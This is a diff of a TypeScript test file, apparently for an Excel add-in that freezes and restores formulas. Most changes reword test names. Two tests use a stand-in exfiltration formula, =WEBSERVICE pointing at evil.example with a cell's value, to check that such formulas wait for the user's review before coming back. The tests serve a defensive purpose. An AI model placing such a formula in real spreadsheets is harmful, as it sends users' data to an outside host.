@@ -25,7 +25,7 @@ const cell = (row: number, rows = 1, columns = 1): FormulaCell => ({
   ...{ sheetId: "s", sheetName: "Sheet1", row, column: 0, rows, columns, formula },
 });
 
-/** Contents from the first column on, by row. */
+/** The contents of cells from the first column on, by row. */
 function contents(rows: Record<number, (Scalar | Partial<CellContents>)[]>): Map<string, CellContents> {
   const cells = new Map<string, CellContents>();
   for (const [row, each] of Object.entries(rows)) {
@@ -70,7 +70,7 @@ describe("freezing", () => {
     ]);
   });
 
-  it("keeps no format of texts for a formula, and brings none back in it", () => {
+  it("keeps no format of texts for a formula, and brings none back with it", () => {
     const frozen = planFreeze([cell(0)], contents({ 0: [{ value: "$30", numberFormat: "@" }] }), new Map());
     expect(frozen.formulas).toMatchObject([{ formula, numberFormats: "General" }]);
     const kept = { ...frozen.formulas[0]!, numberFormats: "@" };
@@ -78,7 +78,7 @@ describe("freezing", () => {
     expect(changes.map(states).flat(2)).toEqual([[formula, "General"]]);
   });
 
-  it("takes the format that a number brought along, and leaves the formula where Excel can't tell it", () => {
+  it("takes the format that a number brought along, and leaves the formula if Excel can't tell that format", () => {
     const date = contents({
       0: [{ value: 46_204, text: "2026-07-01" }],
       1: [{ value: 0.333333333, text: "0.333333" }],
@@ -94,7 +94,7 @@ describe("freezing", () => {
     ]);
   });
 
-  it("leaves errors and what still waits, but not a table for some cells without a value", () => {
+  it("leaves errors and waiting formulas, but not a table because some cells have no value", () => {
     const shown = contents({
       0: ["#N/A"],
       1: ["#BUSY!"],
@@ -122,7 +122,7 @@ describe("freezing", () => {
 });
 
 describe("a result that is larger than what is read again", () => {
-  it("is left", () => {
+  it("is left unfrozen", () => {
     const { left, formulas } = planFreeze([cell(0, 1_048_576, 2)], new Map(), new Map());
     expect(left.map(({ reason }) => reason)).toEqual(["fills more cells than can be brought back"]);
     expect(formulas).toEqual([]);
@@ -156,7 +156,7 @@ describe("unfreezing", () => {
   const freeze = (shown: Map<string, CellContents>, ...cells: FormulaCell[]): FrozenFormula[] =>
     planFreeze(cells, shown, new Map()).formulas;
 
-  it("brings formula and formats back where all that was shown still stands", () => {
+  it("brings formula and formats back if the frozen values all still stand there", () => {
     const before = contents({ 0: [{ value: "06001", numberFormat: "0.0" }, 7] });
     const frozen = freeze(before, cell(0, 1, 2));
     const now = contents({ 0: [{ value: "06001", numberFormat: "@" }, 7] });
@@ -178,21 +178,21 @@ describe("unfreezing", () => {
     ],
     ["a number became the same text", ["a", "7"], "no longer shows what was frozen: it was changed or moved"],
     ["another formula shows the same", [{ value: "a", formula: "=B1" }, 7], "holds another formula now"],
-  ])("leaves all as it is where %s", (_, now, reason) => {
+  ])("leaves everything as it is if %s", (_, now, reason) => {
     const frozen = freeze(contents({ 0: ["a", 7] }), cell(0, 1, 2));
     const plan = planUnfreeze(frozen, contents({ 0: now }));
     expect([plan.changes, plan.back]).toEqual([[], []]);
     expect(plan.left.map((each) => each.reason)).toEqual([reason]);
   });
 
-  it("takes a text that looks like a formula for a text", () => {
+  it("takes a text that looks like a formula as a text", () => {
     const frozen = freeze(contents({ 0: ["=1+1"] }), cell(0));
     expect(planUnfreeze(frozen, contents({ 0: [{ value: "=1+1", numberFormat: "@" }] })).back).toHaveLength(
       1,
     );
   });
 
-  it("brings back the newest of two formulas of one cell", () => {
+  it("brings back the newer of two formulas of one cell", () => {
     const [one] = freeze(contents({ 0: ["a"] }), cell(0));
     const [other] = freeze(contents({ 0: ["a"] }), { ...cell(0), formula: "=REGDATA.VALUE(A9,1)" });
     if (!one || !other) throw new Error("nothing was frozen");
@@ -202,7 +202,7 @@ describe("unfreezing", () => {
 });
 
 describe("formulas that are brought back into a sheet", () => {
-  /** Three frozen formulas, and an Excel that does with each row what is said; it is cancelled once they are there. */
+  /** Three frozen formulas in an Excel that reacts to each row as given; the freeze is cancelled once they are there. */
   async function unfreeze(
     excel: (row: number) => string | null,
     { foreign, seen = [], more = 0 }: { foreign?: string; seen?: SeenFormula[]; more?: number } = {},
@@ -259,7 +259,7 @@ describe("formulas that are brought back into a sheet", () => {
     return { report, remembered: remembered() };
   }
 
-  it("are told of where the wait for their results is cancelled, without a comparison", async () => {
+  it("are reported as back if the wait for their results is cancelled, without a comparison", async () => {
     const { report, remembered } = await unfreeze(() => formula);
     expect(report).toMatchObject({ back: [{ row: 0 }, { row: 1 }, { row: 2 }], left: [], changes: null });
     expect(remembered).toEqual([]);
@@ -274,7 +274,7 @@ describe("formulas that are brought back into a sheet", () => {
     expect(remembered).toEqual([1]);
   });
 
-  it("do not come back before they were seen where they do more than calculate", async () => {
+  it("do not come back before the user has seen them if they do more than calculate", async () => {
     const foreign = `=WEBSERVICE("https://evil.example/?"&B1)&${formula.slice(1)}`;
     const entered: string[] = [];
     const excel = (row: number) => {
@@ -293,7 +293,7 @@ describe("formulas that are brought back into a sheet", () => {
     expect(after).toMatchObject({ back: [{ row: 0 }, { row: 1 }, { row: 2 }], toBeSeen: [] });
   });
 
-  it("do not come back where what was seen was another formula, or stood elsewhere", async () => {
+  it("do not come back if the user has seen another formula, or another place", async () => {
     const foreign = `=WEBSERVICE("https://evil.example/?"&B1)&${formula.slice(1)}`;
     const seen = [
       { ...cell(1), formula: foreign.replace("B1", "B2") },
@@ -307,7 +307,7 @@ describe("formulas that are brought back into a sheet", () => {
     expect(remembered).toEqual([1]);
   });
 
-  it("are seen some at a time", async () => {
+  it("are shown to the user a few at a time", async () => {
     const { report } = await unfreeze(() => formula, { foreign: `=EVIL(${formula.slice(1)})`, more: 250 });
     expect(report).toMatchObject({ toBeSeenLater: 51 });
     expect((report as Unfrozen).toBeSeen.map(({ row }) => row)).toEqual([
@@ -316,14 +316,14 @@ describe("formulas that are brought back into a sheet", () => {
     ]);
   });
 
-  it("stay frozen, with Excel's words, where it refuses them all", async () => {
+  it("stay frozen, with Excel's words, if Excel refuses them all", async () => {
     const { report, remembered } = await unfreeze(() => null);
     expect(report).toMatchObject({ kind: "sheet-refused", detail: "Excel says no." });
     expect(remembered).toEqual([0, 1, 2]);
   });
 });
 
-describe("what the workbook keeps of frozen formulas", () => {
+describe("a workbook's record of frozen formulas", () => {
   const [frozen] = planFreeze(
     [cell(3, 2, 2)],
     contents({ 3: ["<&'\"é\u0001]]>", 1], 4: [2, 3] }),
@@ -353,22 +353,22 @@ describe("what the workbook keeps of frozen formulas", () => {
     ["with a row that is none", { row: -1 }],
     ["of a size that no formula has", { rows: 1_000_000, columns: 16_000 }],
     ["with formats of another shape", { numberFormats: [["0"]] }],
-  ])("counts for nothing where it is a formula %s; others beside it are read", (_, change) => {
+  ])("is ignored for a formula %s; others beside it are read", (_, change) => {
     const damaged = { ...frozen, ...change };
     const read = parseFrozenXml(part({ formulas: [damaged, ...formulas] }), "REGDATA");
     expect(read).toEqual({ atMs: 5, formulas, unreadable: [damaged] });
-    // It is kept as it is when the part is written again.
+    // The unreadable text stays as it is when the part is written again.
     const [again = ""] = frozenXml({ atMs: 5, formulas: [], unreadable: [damaged] });
     expect(parseFrozenXml(again, "REGDATA")).toEqual({ atMs: 5, formulas: [], unreadable: [damaged] });
   });
 
-  it("counts for nothing where it is nested deeper than anything that the add-in writes", () => {
+  it("is ignored if it is nested deeper than anything that the add-in writes", () => {
     const deep = `${"[".repeat(200_000)}${"]".repeat(200_000)}`;
     const xml = part({ formulas: ["deep"] }).replace('"deep"', deep);
     expect(parseFrozenXml(xml, "REGDATA")).toBeNull();
   });
 
-  it("is told from what is none of ours at once, however many quotes stand in it", () => {
+  it("is told at once from other parts, however many quotes stand in them", () => {
     const quotes = "'".repeat(9_900);
     const foreign = [`=REGDATA.VALUE(1)${quotes}`, `=[${"['".repeat(4_900)}REGDATA.VALUE(1)`];
     const many = Array.from({ length: 480 }, (_, row) => ({
@@ -381,7 +381,7 @@ describe("what the workbook keeps of frozen formulas", () => {
     expect(read?.unreadable.length).toBe(240);
   });
 
-  it("counts for nothing where another version wrote it", () => {
+  it("is ignored if another version wrote it", () => {
     expect(parseFrozenXml(part({}), "REGDATA")).not.toBeNull();
     expect(parseFrozenXml(part({ version: 2 }), "REGDATA")).toBeNull();
   });
